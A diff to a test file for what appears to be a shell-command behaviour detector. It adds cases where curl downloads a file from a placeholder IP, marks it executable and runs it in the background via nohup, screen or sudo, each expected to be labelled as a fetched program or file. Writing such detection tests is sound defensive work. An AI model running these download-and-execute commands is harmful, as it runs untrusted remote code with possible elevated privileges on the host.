@@ -55,6 +55,14 @@ it.each([
   expect(judged(line, "linux")).toBe("linux/sh/redirect-network");
 });
 
+it.each([
+  ["curl -s http://203.0.113.7/a -o /tmp/x; chmod 755 /tmp/x; nohup /tmp/x", "linux/sh/fetched-program"],
+  ["curl -s http://203.0.113.7/a -o /tmp/x; chmod 755 /tmp/x; sudo screen -dm /tmp/x", "linux/sh/fetched-program"],
+  ["curl -s http://203.0.113.7/a -o /tmp/a.sh; sudo -n nohup bash /tmp/a.sh", "linux/sh/fetched-file"],
+])("tells of where what runs comes from, whoever only starts it: %s", (line, behaviour) => {
+  expect(judged(line, "linux")).toBe(behaviour);
+});
+
 it("judges a line that comes again once for each of its surroundings, however these are written", () => {
   const request = { commandLine: "regsvr32 /s C:\\Users\\Public\\a.dll", platform: "windows", as: "logged" } as const;
   const all = [
